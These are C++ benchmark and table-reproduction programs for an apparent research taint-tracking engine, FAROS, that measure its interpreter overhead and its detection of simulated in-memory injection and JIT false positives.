BENCHMARK(BM_ProvStoreAppend);

void BM_ProvStoreMergeMemoized(benchmark::State& state) {
  core::ProvStore store;
  auto a = store.intern({core::ProvTag::netflow(0), core::ProvTag::process(1)});
  auto b = store.intern({core::ProvTag::file(2), core::ProvTag::process(3)});
  for (auto _ : state) {
    benchmark::DoNotOptimize(store.merge(a, b));
  }
}
BENCHMARK(BM_ProvStoreMergeMemoized);

void BM_ShadowMemorySetGet(benchmark::State& state) {
  core::ShadowMemory shadow;
  u64 addr = 0;
  for (auto _ : state) {
    shadow.set(addr & 0xffff, 1);
    benchmark::DoNotOptimize(shadow.get((addr + 8) & 0xffff));
    ++addr;
  }
}
BENCHMARK(BM_ShadowMemorySetGet);

/// A compute-heavy guest workload for interpreter throughput.
void setup_spinner(os::Machine& m) {
  os::ImageBuilder ib("spin.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  a.movi(vm::R1, 0);
  a.movi(vm::R2, 3);
  a.label("loop");
  a.mul(vm::R2, vm::R2, vm::R2);
  a.addi(vm::R2, vm::R2, 7);
  a.addi(vm::R1, vm::R1, 1);
  a.jmp("loop");
  auto img = ib.build();
  m.kernel().vfs().create("C:/spin.exe", img.value().serialize());
  (void)m.kernel().spawn("C:/spin.exe");
}

void BM_InterpreterBare(benchmark::State& state) {
  os::Machine m;
  (void)m.boot();
  setup_spinner(m);
  for (auto _ : state) {
    m.run(100000);
  }
  state.SetItemsProcessed(state.iterations() * 100000);
}
BENCHMARK(BM_InterpreterBare)->Unit(benchmark::kMillisecond);

void BM_InterpreterWithFaros(benchmark::State& state) {
  os::Machine m;
  core::FarosEngine engine(m.kernel(), core::Options{});
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  (void)m.boot();
  setup_spinner(m);
  for (auto _ : state) {
    m.run(100000);
  }
  state.SetItemsProcessed(state.iterations() * 100000);
}
BENCHMARK(BM_InterpreterWithFaros)->Unit(benchmark::kMillisecond);

}  // namespace

BENCHMARK_MAIN();
