// Micro-benchmarks (google-benchmark) for the DIFT engine's hot paths:
// interned provenance-list operations, shadow-memory access, and the raw
// interpreter with and without the taint plugin attached — the per-
// instruction cost that Table V's macro numbers are made of.
//
// The interpreter runs measure the three regimes of the paged shadow
// separately:
//  * fully clean   — no taint anywhere; the engine cost is the untainted
//                    fast path (one page-summary probe per fetch/access);
//  * image-tainted — default options: every code page carries its backing
//                    file's provenance, so each fetch exercises the
//                    steady-state fetch-provenance cache;
//  * tainted copy  — a guest loop streaming loads/stores over a netflow-
//                    tainted buffer: the per-byte propagation path proper.
//
// The _rules variants rerun the tainted regimes with a policy ruleset
// binding every trigger (kDispatchRules below), isolating what the
// declarative rule-dispatch layer costs over the built-in fast path.
//
// The _btc variants rerun the core regimes with the block-translation
// cache on (the production default): decode-once dispatch plus the
// engine's taint-inert elision fast path.
//
// With FAROS_BENCH_JSON=<path> set, main() appends one JSONL record per
// regime (median of five fixed-work wall-clock samples, independent of
// google-benchmark's timing machinery) — the format committed in
// BENCH_shadow.json. With FAROS_BENCH_GATE set, the block-cache overhead
// ceiling is enforced and gate failure exits nonzero.
#include <benchmark/benchmark.h>

#include <algorithm>
#include <cstdlib>
#include <map>
#include <thread>

#include "attacks/guest_common.h"
#include "bench_util.h"
#include "core/engine.h"
#include "core/pipeline.h"
#include "core/rules.h"
#include "os/machine.h"
#include "sa/analyzer.h"
#include "vm/btcache.h"

using namespace faros;

namespace {

void BM_ProvStoreAppend(benchmark::State& state) {
  core::ProvStore store;
  core::ProvListId id = store.intern({core::ProvTag::netflow(0)});
  u16 i = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(store.append(id, core::ProvTag::process(i)));
    i = static_cast<u16>((i + 1) % 64);
  }
}
BENCHMARK(BM_ProvStoreAppend);

void BM_ProvStoreMergeMemoized(benchmark::State& state) {
  core::ProvStore store;
  auto a = store.intern({core::ProvTag::netflow(0), core::ProvTag::process(1)});
  auto b = store.intern({core::ProvTag::file(2), core::ProvTag::process(3)});
  for (auto _ : state) {
    benchmark::DoNotOptimize(store.merge(a, b));
  }
}
BENCHMARK(BM_ProvStoreMergeMemoized);

void BM_ShadowMemorySetGet(benchmark::State& state) {
  core::ShadowMemory shadow;
  u64 addr = 0;
  for (auto _ : state) {
    shadow.set(addr & 0xffff, 1);
    benchmark::DoNotOptimize(shadow.get((addr + 8) & 0xffff));
    ++addr;
  }
}
BENCHMARK(BM_ShadowMemorySetGet);

/// The clean-probe cost the untainted fast path rides on: page-summary
/// checks against a shadow with no taint anywhere.
void BM_ShadowMemoryCleanProbe(benchmark::State& state) {
  core::ShadowMemory shadow;
  u64 addr = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(shadow.range_tainted(addr & 0xffffff, 8));
    addr += 8;
  }
}
BENCHMARK(BM_ShadowMemoryCleanProbe);

/// Page-level clear: taint a full page, then drop it in one clear_range.
void BM_ShadowMemoryPageClear(benchmark::State& state) {
  core::ShadowMemory shadow;
  for (auto _ : state) {
    for (u32 i = 0; i < core::ShadowMemory::kPageBytes; i += 64) {
      shadow.set(0x10000 + i, 1);
    }
    shadow.clear_range(0x10000, core::ShadowMemory::kPageBytes);
  }
}
BENCHMARK(BM_ShadowMemoryPageClear);

/// A compute-heavy guest workload for interpreter throughput.
void setup_spinner(os::Machine& m) {
  os::ImageBuilder ib("spin.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  a.movi(vm::R1, 0);
  a.movi(vm::R2, 3);
  a.label("loop");
  a.mul(vm::R2, vm::R2, vm::R2);
  a.addi(vm::R2, vm::R2, 7);
  a.addi(vm::R1, vm::R1, 1);
  a.jmp("loop");
  auto img = ib.build();
  m.kernel().vfs().create("C:/spin.exe", img.value().serialize());
  (void)m.kernel().spawn("C:/spin.exe");
}

struct CopierInfo {
  os::Pid pid = 0;
  VAddr buf_va = 0;
};

/// A memory-heavy guest workload: stream 64 bytes buf -> dst forever.
/// Returns the pid and the VA of "buf" so the harness can taint it.
CopierInfo setup_copier(os::Machine& m) {
  os::ImageBuilder ib("copy.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  a.movi_label(vm::R9, "buf");
  a.movi_label(vm::R10, "dst");
  a.label("loop");
  for (int i = 0; i < 16; ++i) {
    a.ld32(vm::R3, vm::R9, i * 4);
    a.st32(vm::R10, i * 4, vm::R3);
  }
  a.jmp("loop");
  a.align(8);
  a.label("buf");
  a.zeros(64);
  a.label("dst");
  a.zeros(64);
  auto img = ib.build();
  m.kernel().vfs().create("C:/copy.exe", img.value().serialize());
  auto pid = m.kernel().spawn("C:/copy.exe");
  if (!pid.ok()) {
    std::fprintf(stderr, "FATAL: spawn copy.exe: %s\n",
                 pid.error().message.c_str());
    std::exit(1);
  }
  return {pid.value(),
          os::kUserImageBase + ib.asm_().label_offset("buf").value()};
}

/// A compute workload whose hot block carries a constant-divisor kDivu:
/// kDivu is excluded from vm::taint_inert (a zero divisor traps), so the
/// block cache's per-opcode elision can never fast-path this loop — only
/// the analyzer's context-free divisor proof (summary elide hints) can.
/// The movi feeding the divisor sits in the same block, so the proof holds
/// from any entry state.
os::Image build_divspin_image() {
  os::ImageBuilder ib("divspin.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  a.movi(vm::R1, 0);
  a.movi(vm::R2, 3);
  a.label("loop");
  a.mul(vm::R2, vm::R2, vm::R2);
  a.addi(vm::R2, vm::R2, 7);
  a.movi(vm::R7, 9);
  a.divu(vm::R3, vm::R2, vm::R7);
  a.addi(vm::R1, vm::R1, 1);
  a.jmp("loop");
  auto img = ib.build();
  if (!img.ok()) {
    std::fprintf(stderr, "FATAL: build divspin.exe: %s\n",
                 img.error().message.c_str());
    std::exit(1);
  }
  return img.value();
}

void setup_divspinner(os::Machine& m, const os::Image& img) {
  m.kernel().vfs().create("C:/divspin.exe", img.serialize());
  (void)m.kernel().spawn("C:/divspin.exe");
}

constexpr FlowTuple kBenchFlow{attacks::kAttackerIp, attacks::kAttackerPort,
                               0xa9fe39a8, 49162};

/// Taints the copier's source buffer with a netflow tag (the packet-delivery
/// insertion point, bypassing the socket plumbing the bench doesn't need).
void taint_copier_buf(os::Machine& m, osi::GuestMonitor& mon,
                      const CopierInfo& info) {
  os::Process* p = m.kernel().find(info.pid);
  if (!p) {
    std::fprintf(stderr, "FATAL: copier process not found\n");
    std::exit(1);
  }
  osi::GuestXfer xfer{p->info(), &p->as, info.buf_va, 64};
  mon.on_packet_to_guest(xfer, kBenchFlow);
}

core::Options clean_options() {
  core::Options o;
  // No mapped-image or file tainting: nothing in the system ever carries
  // provenance, so every instruction takes the untainted fast path.
  o.track_file = false;
  o.taint_mapped_images = false;
  return o;
}

void BM_InterpreterBare(benchmark::State& state) {
  os::Machine m;
  (void)m.boot();
  setup_spinner(m);
  for (auto _ : state) {
    m.run(100000);
  }
  state.SetItemsProcessed(state.iterations() * 100000);
}
BENCHMARK(BM_InterpreterBare)->Unit(benchmark::kMillisecond);

/// Default options: code pages carry their image's file tag, so every
/// fetch is from tainted memory (the Table V regime).
void BM_InterpreterWithFaros(benchmark::State& state) {
  os::Machine m;
  core::FarosEngine engine(m.kernel(), core::Options{});
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  (void)m.boot();
  setup_spinner(m);
  for (auto _ : state) {
    m.run(100000);
  }
  state.SetItemsProcessed(state.iterations() * 100000);
}
BENCHMARK(BM_InterpreterWithFaros)->Unit(benchmark::kMillisecond);

/// Nothing tainted anywhere: the pure untainted-fast-path tax.
void BM_InterpreterFarosClean(benchmark::State& state) {
  os::Machine m;
  core::FarosEngine engine(m.kernel(), clean_options());
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  (void)m.boot();
  setup_spinner(m);
  for (auto _ : state) {
    m.run(100000);
  }
  state.SetItemsProcessed(state.iterations() * 100000);
}
BENCHMARK(BM_InterpreterFarosClean)->Unit(benchmark::kMillisecond);

/// Loads/stores streaming over a netflow-tainted buffer: the per-byte
/// propagation path (merge/append memo hits, shadow writes).
void BM_InterpreterFarosTaintedCopy(benchmark::State& state) {
  os::Machine m;
  core::FarosEngine engine(m.kernel(), core::Options{});
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  (void)m.boot();
  CopierInfo copier = setup_copier(m);
  m.run(1000);  // map the image, schedule the copier
  taint_copier_buf(m, engine, copier);
  for (auto _ : state) {
    m.run(100000);
  }
  state.SetItemsProcessed(state.iterations() * 100000);
}
BENCHMARK(BM_InterpreterFarosTaintedCopy)->Unit(benchmark::kMillisecond);

// ---------------------------------------------------------------------------
// Fixed-work JSONL summary (FAROS_BENCH_JSON), one record per regime.

struct Regime {
  const char* name;
  bool attach_engine;
  bool clean;
  bool copier;
  bool metrics = true;  // Options::collect_metrics for this run
  const char* rules_json = nullptr;  // non-null: replace the built-in rules
  // Block-translation cache (vm/btcache.h). Off for the legacy regimes so
  // their numbers stay comparable across releases; the _btc regimes measure
  // the cached interpreter with SA-guided elision.
  bool block_cache = false;
  // The divspin workload (hot block with a constant-divisor kDivu) instead
  // of the spinner; `hints` feeds the analyzer's elide hints to the engine.
  bool divspin = false;
  bool hints = false;
  // Decoupled producer/consumer pipeline (core/pipeline.h) instead of the
  // inline engine: the interpreter thread emits trace records, a worker
  // thread propagates. Timed samples include the drain, so the figure is
  // end-to-end (execute + propagate), directly comparable to sync rows.
  bool async = false;
};

/// A ruleset binding every trigger with predicates that evaluate but never
/// match on these workloads: the _rules regimes measure pure dispatch +
/// predicate cost (the worst case the declarative engine adds), with no
/// finding ever recorded.
constexpr const char* kDispatchRules = R"({"rules":[
  {"id":"bench-load","trigger":"tainted-load",
   "when":["target has-type:export-table","fetch process-count>=9"]},
  {"id":"bench-store","trigger":"tainted-store",
   "when":["value process-count>=9"]},
  {"id":"bench-exec","trigger":"exec-page-write",
   "when":["value distinct-netflows>=9"]},
  {"id":"bench-fetch","trigger":"tainted-fetch",
   "when":["fetch process-count>=9"]},
  {"id":"bench-sys","trigger":"syscall-arg",
   "when":["target has-type:netflow"]}]})";

struct RegimeRun {
  double seconds = 0;
  obs::MetricSnapshot metrics;  // collected=false for bare / _noobs runs
};

RegimeRun run_regime(const Regime& r, u64 insns) {
  os::MachineConfig mc;
  mc.kernel.block_cache = r.block_cache;
  os::Machine m(mc);
  core::Options opts = r.clean ? clean_options() : core::Options{};
  opts.block_cache = r.block_cache;
  opts.collect_metrics = r.metrics;
  if (r.rules_json) {
    auto rs = core::parse_ruleset_json(r.rules_json);
    if (!rs.ok()) {
      std::fprintf(stderr, "FATAL: bench ruleset: %s\n",
                   rs.error().message.c_str());
      std::exit(1);
    }
    opts.rules = std::move(rs).take();
  }
  os::Image divspin_img;
  if (r.divspin) {
    divspin_img = build_divspin_image();
    if (r.hints) {
      sa::ImageReport ir = sa::analyze_image(divspin_img);
      for (const sa::ElideHint& h : ir.elide_hints) {
        opts.elide_hints[h.va].emplace_back(h.insns, h.hash);
      }
    }
  }
  std::unique_ptr<core::FarosEngine> engine;
  std::unique_ptr<core::DiftPipeline> pipe;
  if (r.attach_engine && r.async) {
    size_t cap = vm::TraceRing::kDefaultCapacity;
    if (const char* env = std::getenv("FAROS_RING_CAP")) {
      cap = static_cast<size_t>(std::strtoull(env, nullptr, 10));
    }
    pipe = std::make_unique<core::DiftPipeline>(m.kernel(), opts, cap);
    m.attach_cpu_plugin(pipe.get());
    m.add_monitor(pipe.get());
  } else if (r.attach_engine) {
    engine = std::make_unique<core::FarosEngine>(m.kernel(), opts);
    m.attach_cpu_plugin(engine.get());
    m.add_monitor(engine.get());
  }
  (void)m.boot();
  if (r.copier) {
    CopierInfo copier = setup_copier(m);
    m.run(1000);
    if (pipe) taint_copier_buf(m, *pipe, copier);
    else if (engine) taint_copier_buf(m, *engine, copier);
  } else if (r.divspin) {
    setup_divspinner(m, divspin_img);
  } else {
    setup_spinner(m);
  }
  m.run(insns / 10);  // warm-up
  if (pipe) pipe->drain();
  RegimeRun out;
  // Median of five fixed-work samples: each sample runs exactly `insns`
  // instructions of the steady-state loop, so one scheduler hiccup or page
  // of cold cache skews a single sample, not the reported figure. Async
  // samples drain the ring inside the timed region: the number reported is
  // executed *and* propagated instructions.
  double samples[5];
  for (double& s : samples) {
    s = bench::time_s([&] {
      m.run(insns);
      if (pipe) pipe->drain();
    });
  }
  std::sort(std::begin(samples), std::end(samples));
  out.seconds = samples[2];
  if (r.attach_engine) {
    out.metrics = pipe ? pipe->metrics_snapshot() : engine->metrics_snapshot();
    if (pipe && std::getenv("FAROS_BENCH_RING_STATS")) {
      const vm::TraceRingStats rs = pipe->ring_stats();
      std::fprintf(stderr,
                   "[%s] ring: records=%llu stalls=%llu waits=%llu depth=%llu\n",
                   r.name, static_cast<unsigned long long>(rs.records),
                   static_cast<unsigned long long>(rs.producer_stalls),
                   static_cast<unsigned long long>(rs.consumer_waits),
                   static_cast<unsigned long long>(rs.max_depth));
    }
    if (const vm::BlockCache* btc = m.kernel().interp().block_cache()) {
      const vm::BlockCacheStats& bs = btc->stats();
      out.metrics.counters[static_cast<u32>(obs::Ctr::kBtTranslate)] +=
          bs.translated;
      out.metrics.counters[static_cast<u32>(obs::Ctr::kBtHit)] += bs.hits;
      out.metrics.counters[static_cast<u32>(obs::Ctr::kBtEvictSmc)] +=
          bs.evict_smc;
      out.metrics.counters[static_cast<u32>(obs::Ctr::kBtEvictCr3)] +=
          bs.evict_cr3;
    }
  }
  return out;
}

double rate(u64 hit, u64 miss) {
  u64 total = hit + miss;
  return total ? static_cast<double>(hit) / static_cast<double>(total) : 0;
}

/// Runs the fixed-work regime sweep; emits JSONL when FAROS_BENCH_JSON is
/// set and, when FAROS_BENCH_GATE is set, enforces the block-cache overhead
/// ceiling (clean and image-tainted ≤ 1.6× cache-on bare — CI's tripwire
/// for regressions in the elision fast path). Returns false on gate failure.
bool emit_json_summary() {
  const bool gate = std::getenv("FAROS_BENCH_GATE") != nullptr;
  if (!std::getenv("FAROS_BENCH_JSON") && !gate) return true;
  constexpr u64 kInsns = 2000000;
  // The _noobs pair isolates the observability tax: identical workloads
  // with collect_metrics off, so every counter handle is null.
  const Regime regimes[] = {
      {"interp_bare", false, false, false},
      {"interp_faros_clean", true, true, false},
      {"interp_faros_image_tainted", true, false, false},
      {"interp_faros_tainted_copy", true, false, true},
      {"interp_faros_clean_noobs", true, true, false, /*metrics=*/false},
      {"interp_faros_image_tainted_noobs", true, false, false,
       /*metrics=*/false},
      // Rule-dispatch overhead: same workloads with all five triggers
      // bound. image_tainted_rules pays one tainted-fetch dispatch per
      // instruction; tainted_copy_rules adds a tainted-load + tainted-store
      // dispatch per streamed access.
      {"interp_faros_image_tainted_rules", true, false, false,
       /*metrics=*/true, kDispatchRules},
      {"interp_faros_tainted_copy_rules", true, false, true,
       /*metrics=*/true, kDispatchRules},
      // Block-translation cache on (the production default): same four core
      // workloads. clean/image_tainted ride the elision fast path; the
      // copier keeps its loads/stores instrumented but skips fetch+decode.
      {"interp_bare_btc", false, false, false, /*metrics=*/true,
       /*rules_json=*/nullptr, /*block_cache=*/true},
      {"interp_faros_clean_btc", true, true, false, /*metrics=*/true,
       /*rules_json=*/nullptr, /*block_cache=*/true},
      {"interp_faros_image_tainted_btc", true, false, false,
       /*metrics=*/true, /*rules_json=*/nullptr, /*block_cache=*/true},
      {"interp_faros_tainted_copy_btc", true, false, true, /*metrics=*/true,
       /*rules_json=*/nullptr, /*block_cache=*/true},
      // Summary elision: a hot block with a constant-divisor kDivu. The
      // _inert row is the per-opcode-elision ceiling (the block can never
      // be elided without summary facts); _hints feeds the analyzer's
      // proof to the engine, so the same block runs uninstrumented. The
      // gate requires strictly more elided-instruction coverage with
      // hints than without.
      {"interp_faros_divspin_btc_inert", true, false, false,
       /*metrics=*/true, /*rules_json=*/nullptr, /*block_cache=*/true,
       /*divspin=*/true, /*hints=*/false},
      {"interp_faros_divspin_btc_hints", true, false, false,
       /*metrics=*/true, /*rules_json=*/nullptr, /*block_cache=*/true,
       /*divspin=*/true, /*hints=*/true},
      // Decoupled pipeline (the production default): the same three
      // block-cached workloads with propagation on a consumer thread and
      // the drain included in the timed region. Compare each _async row
      // against its _btc twin: clean/image-tainted price the record-emit
      // overhead; tainted-copy is where the overlap pays — heavy per-byte
      // propagation runs concurrently with execution.
      {"interp_faros_clean_async", true, true, false, /*metrics=*/true,
       /*rules_json=*/nullptr, /*block_cache=*/true, /*divspin=*/false,
       /*hints=*/false, /*async=*/true},
      {"interp_faros_image_tainted_async", true, false, false,
       /*metrics=*/true, /*rules_json=*/nullptr, /*block_cache=*/true,
       /*divspin=*/false, /*hints=*/false, /*async=*/true},
      {"interp_faros_tainted_copy_async", true, false, true,
       /*metrics=*/true, /*rules_json=*/nullptr, /*block_cache=*/true,
       /*divspin=*/false, /*hints=*/false, /*async=*/true},
  };
  std::map<std::string, double> ns_by_case;
  std::map<std::string, u64> elided_by_case;
  for (const Regime& r : regimes) {
    RegimeRun run = run_regime(r, kInsns);
    const double s = run.seconds;
    ns_by_case[r.name] = s / static_cast<double>(kInsns) * 1e9;
    if (run.metrics.collected) {
      elided_by_case[r.name] =
          run.metrics[obs::Ctr::kBtElidedInsns];
    }
    JsonWriter rec;
    rec.field("case", r.name)
        .field("insns", kInsns)
        .field("ns_per_insn", s / static_cast<double>(kInsns) * 1e9)
        .field("minsn_per_s", static_cast<double>(kInsns) / s / 1e6);
    if (run.metrics.collected) {
      const obs::MetricSnapshot& m = run.metrics;
      using obs::Ctr;
      rec.field("fetch_cache_hit_rate",
                rate(m[Ctr::kFetchCacheHit], m[Ctr::kFetchCacheMiss]))
          .field("shadow_frame_cache_hit_rate",
                 rate(m[Ctr::kShadowFrameCacheHit],
                      m[Ctr::kShadowFrameCacheMiss]))
          .field("merge_memo_hit_rate",
                 rate(m[Ctr::kMergeMemoHit], m[Ctr::kMergeMemoMiss]))
          .field("append_memo_hit_rate",
                 rate(m[Ctr::kAppendMemoHit], m[Ctr::kAppendMemoMiss]));
      obs::append_counter_fields(rec, m);
    }
    bench::json_record("micro_dift", rec);
  }

  if (!gate) return true;
  const double bare = ns_by_case["interp_bare_btc"];
  const double clean_x = ns_by_case["interp_faros_clean_btc"] / bare;
  const double image_x = ns_by_case["interp_faros_image_tainted_btc"] / bare;
  constexpr double kCeiling = 1.6;
  std::printf(
      "block-cache gate: clean %.2fx, image-tainted %.2fx of bare "
      "(ceiling %.1fx)\n",
      clean_x, image_x, kCeiling);
  if (clean_x > kCeiling || image_x > kCeiling) {
    std::fprintf(stderr,
                 "FAIL: block-cache overhead ceiling exceeded "
                 "(clean %.2fx, image-tainted %.2fx > %.1fx)\n",
                 clean_x, image_x, kCeiling);
    return false;
  }
  // Summary-elision coverage gate: the divisor-proof hints must elide
  // strictly more instructions than the per-opcode-inert baseline can on
  // the same workload (the baseline cannot touch the divu block at all).
  const u64 inert_elided = elided_by_case["interp_faros_divspin_btc_inert"];
  const u64 hint_elided = elided_by_case["interp_faros_divspin_btc_hints"];
  std::printf(
      "summary-elide gate: %llu elided insns with hints vs %llu without\n",
      static_cast<unsigned long long>(hint_elided),
      static_cast<unsigned long long>(inert_elided));
  if (hint_elided <= inert_elided) {
    std::fprintf(stderr,
                 "FAIL: summary elide hints added no coverage "
                 "(%llu <= %llu elided insns)\n",
                 static_cast<unsigned long long>(hint_elided),
                 static_cast<unsigned long long>(inert_elided));
    return false;
  }
  // Async-pipeline gate, on the propagation-heavy regime where decoupling
  // must pay for itself. The ceiling is topology-aware: with two or more
  // hardware threads, executing while the consumer thread propagates has
  // to beat running both phases inline (<1x demands a real improvement
  // while absorbing timer noise). On a single hardware thread the two
  // pipeline stages time-slice one core, so decoupling cannot win by
  // construction — there the gate instead bounds the overhead of the
  // split (ring transfer + scheduling + cache refill after each time
  // slice), which still catches pathologies like producer-side window
  // recapture storms (2x+ before the exact-overlap invalidation fix).
  const double copy_async_x = ns_by_case["interp_faros_tainted_copy_async"] /
                              ns_by_case["interp_faros_tainted_copy_btc"];
  const unsigned hw = std::thread::hardware_concurrency();
  const bool parallel_hw = hw >= 2;
  const double async_ceiling = parallel_hw ? 0.95 : 1.35;
  std::printf(
      "async-pipeline gate: tainted-copy %.2fx of sync "
      "(ceiling %.2fx, %u hw thread%s)\n",
      copy_async_x, async_ceiling, hw, hw == 1 ? "" : "s");
  if (copy_async_x > async_ceiling) {
    std::fprintf(stderr,
                 parallel_hw
                     ? "FAIL: async tainted-copy did not improve on the "
                       "inline engine (%.2fx > %.2fx)\n"
                     : "FAIL: async tainted-copy overhead on one hw thread "
                       "exceeded the ceiling (%.2fx > %.2fx)\n",
                 copy_async_x, async_ceiling);
    return false;
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
  benchmark::RunSpecifiedBenchmarks();
  return emit_json_summary() ? 0 : 1;
}
