// bench_sa_analyze — throughput of the static FV32 analyzer (src/sa) over
// the full scenario corpus: images/sec and basic blocks/sec for the whole
// pipeline (image extraction excluded; decode + CFG recovery + dataflow
// fixpoint + rules included). The static prefilter has to be cheap next to
// record/replay for "pre-triage" to mean anything — this bench puts the
// number next to the farm's jobs/sec.
#include "attacks/corpus.h"
#include "bench_util.h"
#include "sa/analyzer.h"

using namespace faros;

int main() {
  bench::heading("Static analyzer throughput (src/sa) — full corpus");

  // Extract once, outside the timed region: the bench measures the
  // analyzer, not scenario setup.
  struct Program {
    std::string name;
    std::vector<os::Image> images;
  };
  std::vector<Program> programs;
  u32 total_images = 0;
  for (const auto& e : attacks::full_corpus()) {
    auto sc = e.make();
    auto extracted = attacks::extract_images(*sc);
    if (!extracted.ok()) {
      std::fprintf(stderr, "FATAL: extract '%s' failed: %s\n", e.name.c_str(),
                   extracted.error().message.c_str());
      return 1;
    }
    Program p;
    p.name = e.name;
    for (auto& x : extracted.value()) p.images.push_back(std::move(x.image));
    total_images += static_cast<u32>(p.images.size());
    programs.push_back(std::move(p));
  }

  constexpr u32 kRounds = 20;
  u64 blocks = 0, insns = 0, findings = 0;
  double secs = bench::time_s([&] {
    for (u32 round = 0; round < kRounds; ++round) {
      blocks = insns = findings = 0;
      for (const auto& p : programs) {
        sa::ProgramReport rep = sa::analyze_images(p.name, p.images);
        blocks += rep.blocks;
        insns += rep.insns;
        findings += rep.findings;
      }
    }
  });

  const double analyses = static_cast<double>(programs.size()) * kRounds;
  const double images_s = total_images * kRounds / secs;
  const double blocks_s = static_cast<double>(blocks) * kRounds / secs;
  const double insns_s = static_cast<double>(insns) * kRounds / secs;
  std::printf("%zu programs, %u images, %llu blocks, %llu insns per round\n",
              programs.size(), total_images,
              static_cast<unsigned long long>(blocks),
              static_cast<unsigned long long>(insns));
  std::printf("%u rounds in %.3fs: %.0f programs/s, %.0f images/s, "
              "%.0f blocks/s, %.2fM insns/s, %llu findings/round\n",
              kRounds, secs, analyses / secs, images_s, blocks_s,
              insns_s / 1e6, static_cast<unsigned long long>(findings));

  JsonWriter w;
  w.field("programs", static_cast<u64>(programs.size()))
      .field("images", total_images)
      .field("blocks", blocks)
      .field("insns", insns)
      .field("findings", findings)
      .field("rounds", kRounds)
      .field("seconds", secs)
      .field("images_per_s", images_s)
      .field("blocks_per_s", blocks_s)
      .field("insns_per_s", insns_s);
  bench::json_record("sa_analyze", w);

  // Throughput gate (FAROS_BENCH_GATE): the analyzer must stay within 2x
  // of the committed baseline (BENCH_shadow.json, sa_analyze_pr9) — the
  // tripwire for an accidentally superlinear summary/callgraph pass. The
  // baseline is the slowest of three CI-class runs, so half of it is a
  // regression, not host jitter.
  if (std::getenv("FAROS_BENCH_GATE")) {
    constexpr double kBaselineInsnsPerS = 2.4e6;
    std::printf("sa-analyze gate: %.2fM insns/s (floor %.2fM = baseline/2)\n",
                insns_s / 1e6, kBaselineInsnsPerS / 2 / 1e6);
    if (insns_s < kBaselineInsnsPerS / 2) {
      std::fprintf(stderr,
                   "FAIL: sa analyzer throughput regressed >2x "
                   "(%.2fM insns/s < %.2fM floor)\n",
                   insns_s / 1e6, kBaselineInsnsPerS / 2 / 1e6);
      return 1;
    }
  }
  return 0;
}
