// Reproduces Table II: FAROS output for an in-memory injection attack —
// the flagged instruction addresses, each with the provenance list of the
// injected code (NetFlow -> inject_client.exe -> notepad.exe).
#include "bench_util.h"
#include "core/report.h"

using namespace faros;

int main() {
  bench::heading(
      "Table II — FAROS output for a reflective DLL injection "
      "(Meterpreter-style, victim notepad.exe)");

  attacks::ReflectiveDllScenario sc(attacks::ReflectiveVariant::kMeterpreter);
  auto run = bench::must_analyze(sc);

  std::printf("%s\n", run.report.c_str());

  std::printf("paper shape: every row carries the same chain "
              "NetFlow{169.254.26.161:4444 -> 169.254.57.168:49162} "
              "-> inject_client.exe -> notepad.exe\n");
  std::printf("measured: %zu flagged instruction(s), flagged=%s\n",
              run.findings.size(), run.flagged ? "yes" : "no");
  return run.flagged ? 0 : 1;
}
