// Reproduces Table III + Section VI-A: the JIT false-positive analysis.
// 20 workloads (10 Java applets, 10 AJAX websites) download code over the
// network and run it; the two applets that link a runtime helper through
// the export tables are flagged (10% of the applets / 2-of-20 = the paper's
// JIT FP), and the analyst whitelist dismisses them.
#include "attacks/datasets.h"
#include "bench_util.h"

using namespace faros;

int main() {
  bench::heading("Table III — JIT workloads (Java applets + AJAX websites)");

  auto workloads = attacks::table3_workloads();
  int flagged = 0, applets = 0, applet_flagged = 0, errors = 0;

  std::printf("%-22s %-12s %-10s %s\n", "workload", "host", "flagged",
              "note");
  for (const auto& w : workloads) {
    attacks::JitScenario sc(w.name, w.host, w.linking);
    auto run = bench::must_analyze(sc);
    bool is_applet = w.host == "java.exe";
    applets += is_applet;
    flagged += run.flagged;
    applet_flagged += (run.flagged && is_applet);
    if (run.flagged != w.linking) ++errors;
    std::printf("%-22s %-12s %-10s %s\n", w.name.c_str(), w.host.c_str(),
                run.flagged ? "YES" : "no",
                w.linking ? "(links network code via export tables)" : "");
  }

  std::printf("\npaper: 2 of 20 workloads flagged (both Java applets; 10%% "
              "of the applets), 0 AJAX sites\n");
  std::printf("measured: %d of %zu flagged (%d applet(s) of %d), %d "
              "mismatches vs expectation\n",
              flagged, workloads.size(), applet_flagged, applets, errors);

  // The analyst whitelists the JIT host: the known FPs are dismissed.
  core::Options whitelisted;
  whitelisted.whitelist.insert("java.exe");
  attacks::JitScenario fp("pulleysystem", "java.exe", true);
  auto run = bench::must_analyze(fp, whitelisted);
  std::printf("with analyst whitelist of java.exe: flagged=%s "
              "(finding recorded but suppressed: %zu suppressed)\n",
              run.flagged ? "YES" : "no", run.findings.size());

  bool ok = flagged == 2 && applet_flagged == 2 && errors == 0 &&
            !run.flagged && !run.findings.empty();
  std::printf("result: %s\n", ok ? "REPRODUCED" : "REPRODUCTION FAILURE");
  return ok ? 0 : 1;
}
