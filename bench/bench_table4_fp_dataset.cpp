// Reproduces Table IV + the headline false-positive analysis: 90
// non-injecting malware samples (the 17 families expanded with variants)
// and 14 benign applications, each executing its behaviour grid. FAROS
// must flag none of them (0% FP on this battery; the only FPs in the whole
// evaluation are the Table III JIT workloads).
#include "attacks/datasets.h"
#include "bench_util.h"

using namespace faros;

namespace {

int run_battery(const std::vector<attacks::SampleSpec>& samples,
                const char* label, int* false_positives) {
  std::printf("\n--- %s (%zu samples) ---\n", label, samples.size());
  std::printf("%-28s %-44s %s\n", "sample", "behaviours", "flagged");
  int failures = 0;
  for (const auto& s : samples) {
    std::string behaviours;
    for (auto b : s.behaviors) {
      if (!behaviours.empty()) behaviours += ",";
      behaviours += attacks::behavior_name(b);
    }
    attacks::BehaviorScenario sc(s.name + ".exe", s.behaviors);
